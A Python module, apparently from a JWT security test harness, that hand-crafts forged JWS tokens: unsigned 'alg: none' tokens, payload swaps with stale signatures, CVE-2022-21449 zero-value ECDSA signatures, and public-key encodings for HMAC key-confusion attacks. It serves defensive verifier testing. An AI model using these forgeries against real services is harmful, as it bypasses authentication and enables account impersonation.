"""Hand-built JWS tokens, malicious ones included (RFC 7515 compact serialisation, RFC 7518 algorithms).

PyJWT rightly refuses to HMAC with a PEM public key, to emit ``alg: none`` over a signature, to write
duplicate JSON members or non-UTF-8 JSON. An attack harness must do all of that, so tokens are built here
by hand: base64url + ``hmac``/``cryptography``. Nothing outside ``harness/`` forges tokens.

A header or payload ("part") is either a ``dict`` (serialised compactly), a ``str`` (raw JSON text, e.g.
with duplicate members; encoded as UTF-8) or ``bytes`` (raw octets: UTF-16, invalid UTF-8...).
"""
from __future__ import annotations

import base64
import datetime
import functools
import hashlib
import hmac
import json
from typing import Any, Union

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa, utils
from cryptography.x509.oid import NameOID

Part = Union[dict, str, bytes]

HMAC_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
RSA_HASHES = {"256": hashes.SHA256, "384": hashes.SHA384, "512": hashes.SHA512}
EC_SIZES = {"ES256": 32, "ES384": 48, "ES512": 66}

# CVE-2022-21449 "psychic signatures": r = s = 0.
PSYCHIC_DER = "MAYCAQACAQA"                    # DER SEQUENCE { INTEGER 0, INTEGER 0 } = 30 06 02 01 00 02 01 00
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
P384_ORDER = int("FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF581A0DB248B0A77AECEC196ACCC52973",
                 16)


# -- encoding ------------------------------------------------------------------------------------------
def b64url(data: bytes) -> str:
    """base64url without padding (RFC 7515 §2)."""
    return base64.urlsafe_b64encode(data).decode("ascii").rstrip("=")


def b64url_decode(segment: str) -> bytes:
    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


def part_bytes(part: Part) -> bytes:
    if isinstance(part, bytes):
        return part
    if isinstance(part, str):
        return part.encode("utf-8")
    return json.dumps(part, separators=(",", ":")).encode("utf-8")


def segment(part: Part) -> str:
    return b64url(part_bytes(part))


def split(token: str) -> tuple[str, str, str]:
    """The three segments of a compact JWS (raises ValueError if it has not exactly three)."""
    h, p, s = token.split(".")
    return h, p, s


def decode_part(seg: str) -> Any:
    return json.loads(b64url_decode(seg).decode("utf-8"))


def header_of(token: str) -> dict:
    return decode_part(token.split(".")[0])


def claims_of(token: str) -> dict:
    return decode_part(token.split(".")[1])


# -- signing -------------------------------------------------------------------------------------------
def sign(alg: str, key: Any, data: bytes) -> bytes:
    """Sign ``data`` with ``alg``: HS* takes any bytes as key (that is the point), RS*/PS*/ES* take a
    ``cryptography`` private key."""
    if alg in HMAC_HASHES:
        if isinstance(key, str):
            key = key.encode("utf-8")
        return hmac.new(bytes(key), data, HMAC_HASHES[alg]).digest()
    if alg[:2] in ("RS", "PS") and alg[2:] in RSA_HASHES:
        h = RSA_HASHES[alg[2:]]()
        pad = padding.PKCS1v15() if alg.startswith("RS") else padding.PSS(
            mgf=padding.MGF1(h), salt_length=h.digest_size)
        return key.sign(data, pad, h)
    if alg in EC_SIZES:
        h = RSA_HASHES[alg[2:]]()
        r, s = utils.decode_dss_signature(key.sign(data, ec.ECDSA(h)))
        n = EC_SIZES[alg]
        return r.to_bytes(n, "big") + s.to_bytes(n, "big")  # JOSE raw R||S (RFC 7518 §3.4)
    raise ValueError(f"cannot sign with alg {alg!r}")


def jws(header: Part, payload: Part, key: Any = None, alg: str | None = None) -> str:
    """A compact JWS. ``alg`` defaults to the header's; ``key=None`` gives an empty signature."""
    signing_input = f"{segment(header)}.{segment(payload)}"
    if key is None:
        return signing_input + "."
    if alg is None:
        if not isinstance(header, dict):
            raise ValueError("alg is required when the header is raw text")
        alg = header["alg"]
    return signing_input + "." + b64url(sign(alg, key, signing_input.encode("ascii")))


def hmac_token(header: dict, payload: Part, key: bytes | str, alg: str | None = None) -> str:
    """HS256/384/512 over ``header`` (its ``alg`` set to ``alg`` if given) with arbitrary key bytes."""
    if alg is not None:
        header = {**header, "alg": alg}
    return jws(header, payload, key, header["alg"])


def unsigned_token(header: dict, payload: Part, alg: str = "none", signature: str = "") -> str:
    """``alg: none`` (or any spelling) with the given signature segment (empty by default)."""
    return f"{segment({**header, 'alg': alg})}.{segment(payload)}.{signature}"


def with_signature(token: str, signature: str) -> str:
    h, p, _ = split(token)
    return f"{h}.{p}.{signature}"


def with_payload(token: str, payload: Part) -> str:
    """Replace the payload, keeping the original (now wrong) signature."""
    h, _, s = split(token)
    return f"{h}.{segment(payload)}.{s}"


def psychic_signatures(alg: str = "ES256") -> dict[str, str]:
    """CVE-2022-21449 signatures: DER r=s=0, raw all-zero R||S, and r = s = n (the curve order)."""
    out = {"der-zero": PSYCHIC_DER}
    size = EC_SIZES[alg]
    out["raw-zero"] = b64url(bytes(2 * size))
    order = {"ES256": P256_ORDER, "ES384": P384_ORDER}.get(alg)
    if order is not None:
        out["r-s-equal-n"] = b64url(order.to_bytes(size, "big") * 2)
    return out


# -- harness keys --------------------------------------------------------------------------------------
@functools.lru_cache(maxsize=None)
def harness_rsa_key(slot: int = 0) -> rsa.RSAPrivateKey:
    """RSA keys the harness owns (one per slot, made once per process). Never trusted by a secure target."""
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


@functools.lru_cache(maxsize=None)
def harness_ec_key(slot: int = 0) -> ec.EllipticCurvePrivateKey:
    return ec.generate_private_key(ec.SECP256R1())


def _int_b64(n: int, size: int | None = None) -> str:
    size = size or max(1, (n.bit_length() + 7) // 8)
    return b64url(n.to_bytes(size, "big"))


def b64_int(value: str) -> int:
    return int.from_bytes(b64url_decode(value), "big")


def public_jwk(public_key: Any, kid: str | None = None, **extra: Any) -> dict:
    """The public JWK of an RSA or EC key (RFC 7517, RFC 7518 §6)."""
    if isinstance(public_key, (rsa.RSAPrivateKey, ec.EllipticCurvePrivateKey)):
        public_key = public_key.public_key()
    if isinstance(public_key, rsa.RSAPublicKey):
        nums = public_key.public_numbers()
        jwk: dict = {"kty": "RSA", "n": _int_b64(nums.n), "e": _int_b64(nums.e)}
    elif isinstance(public_key, ec.EllipticCurvePublicKey):
        nums = public_key.public_numbers()
        size = (public_key.curve.key_size + 7) // 8
        crv = {"secp256r1": "P-256", "secp384r1": "P-384", "secp521r1": "P-521"}[public_key.curve.name]
        jwk = {"kty": "EC", "crv": crv, "x": _int_b64(nums.x, size), "y": _int_b64(nums.y, size)}
    else:
        raise ValueError(f"unsupported key type {type(public_key).__name__}")
    if kid is not None:
        jwk["kid"] = kid
    jwk.update(extra)
    return jwk


def public_key_from_jwk(jwk: dict) -> Any:
    """An RSA or EC public key from its JWK (private members ignored)."""
    if jwk.get("kty") == "RSA":
        return rsa.RSAPublicNumbers(b64_int(jwk["e"]), b64_int(jwk["n"])).public_key()
    if jwk.get("kty") == "EC":
        curve = {"P-256": ec.SECP256R1(), "P-384": ec.SECP384R1(), "P-521": ec.SECP521R1()}[jwk["crv"]]
        return ec.EllipticCurvePublicNumbers(b64_int(jwk["x"]), b64_int(jwk["y"]), curve).public_key()
    raise ValueError(f"unsupported JWK kty {jwk.get('kty')!r}")


def jwk_thumbprint(jwk: dict) -> str:
    """RFC 7638 thumbprint (SHA-256), a handy stable kid."""
    members = ("e", "kty", "n") if jwk["kty"] == "RSA" else ("crv", "kty", "x", "y")
    canon = json.dumps({k: jwk[k] for k in members}, separators=(",", ":"), sort_keys=True)
    return b64url(hashlib.sha256(canon.encode()).digest())


def self_signed_cert(private_key: Any, subject_key: Any = None, cn: str = "oauthlab-harness") -> x509.Certificate:
    """A certificate for ``subject_key`` (default: the signer's own public key), signed by ``private_key``."""
    subject_key = subject_key or private_key.public_key()
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn)])
    now = datetime.datetime(2024, 1, 1, tzinfo=datetime.timezone.utc)
    return (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(subject_key)
            .serial_number(1).not_valid_before(now).not_valid_after(now + datetime.timedelta(days=3650))
            .sign(private_key, hashes.SHA256()))


def cert_b64(cert: x509.Certificate) -> str:
    """A certificate as an ``x5c`` entry (standard base64 of the DER, RFC 7515 §4.1.6)."""
    return base64.b64encode(cert.public_bytes(serialization.Encoding.DER)).decode("ascii")


# -- key confusion: every encoding of a public key as an HMAC secret ---------------------------------------
def _pem(public_key: Any, fmt: serialization.PublicFormat) -> bytes:
    return public_key.public_bytes(serialization.Encoding.PEM, fmt)


def _one_line(pem: bytes) -> bytes:
    lines = pem.strip().split(b"\n")
    return lines[0] + b"\n" + b"".join(lines[1:-1]) + b"\n" + lines[-1] + b"\n"


def public_key_variants(public_key: Any, jwk_text: str | None = None) -> dict[str, dict[str, bytes]]:
    """The byte strings a confused verifier might use as the HMAC secret, grouped by catalog row:
    ``spki-pem`` (as published), ``pem-variants`` (newline removed, CRLF, one-line, prefixed bytes),
    ``pkcs1-pem``, ``der-cert-jwk`` (DER, certificate, JWK JSON text) and ``openssh``."""
    spki = _pem(public_key, serialization.PublicFormat.SubjectPublicKeyInfo)
    groups: dict[str, dict[str, bytes]] = {"spki-pem": {"spki-pem": spki}}
    groups["pem-variants"] = {
        "spki-pem-no-trailing-newline": spki.rstrip(b"\n"),
        "spki-pem-crlf": spki.replace(b"\n", b"\r\n"),
        "spki-pem-one-line-body": _one_line(spki),
        "spki-base64-body-only": b"".join(spki.strip().split(b"\n")[1:-1]),
        "spki-pem-prefix-newline": b"\n" + spki,
        "spki-pem-prefix-space": b" " + spki,
        "spki-pem-prefix-hash": b"#" + spki,
        "spki-pem-prefix-zero-width-space": "\u200b".encode() + spki,
    }
    der = public_key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    cert = self_signed_cert(harness_rsa_key(9), public_key, cn="confused")
    jwk = public_jwk(public_key)
    dcj = {"spki-der": der, "x509-cert-pem": cert.public_bytes(serialization.Encoding.PEM),
           "x509-cert-der": cert.public_bytes(serialization.Encoding.DER),
           "jwk-json": json.dumps(jwk).encode(), "jwk-json-compact": json.dumps(jwk, separators=(",", ":")).encode()}
    if jwk_text:
        dcj["jwk-json-as-published"] = jwk_text.encode()
    if isinstance(public_key, rsa.RSAPublicKey):
        pkcs1 = _pem(public_key, serialization.PublicFormat.PKCS1)
        groups["pkcs1-pem"] = {"pkcs1-pem": pkcs1, "pkcs1-pem-no-trailing-newline": pkcs1.rstrip(b"\n")}
        dcj["pkcs1-der"] = public_key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.PKCS1)
    groups["der-cert-jwk"] = dcj
    ssh = public_key.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
    groups["openssh"] = {"openssh": ssh, "openssh-newline": ssh + b"\n",
                         "openssh-comment": ssh + b" harness@oauthlab\n"}
    return groups


def load_private_key(pem: bytes) -> Any:
    return serialization.load_pem_private_key(pem, password=None)


def load_public_pem(pem: bytes) -> Any:
    return serialization.load_pem_public_key(pem)


def alg_for_key(key: Any) -> str:
    if isinstance(key, (rsa.RSAPrivateKey, rsa.RSAPublicKey)):
        return "RS256"
    if isinstance(key, (ec.EllipticCurvePrivateKey, ec.EllipticCurvePublicKey)):
        return {"secp256r1": "ES256", "secp384r1": "ES384", "secp521r1": "ES512"}[key.curve.name]
    return "HS256"


def verify(alg: str, key: Any, signing_input: bytes, signature: bytes) -> bool:
    """Check a signature (used by the known-answer tests and the hosted issuer's self-test)."""
    from cryptography.exceptions import InvalidSignature
    if alg in HMAC_HASHES:
        return hmac.compare_digest(sign(alg, key, signing_input), signature)
    h = RSA_HASHES[alg[2:]]()
    try:
        if alg.startswith("RS"):
            key.verify(signature, signing_input, padding.PKCS1v15(), h)
        elif alg.startswith("PS"):
            key.verify(signature, signing_input, padding.PSS(mgf=padding.MGF1(h), salt_length=h.digest_size), h)
        else:
            n = len(signature) // 2
            der = utils.encode_dss_signature(int.from_bytes(signature[:n], "big"),
                                             int.from_bytes(signature[n:], "big"))
            key.verify(der, signing_input, ec.ECDSA(h))
    except InvalidSignature:
        return False
    return True
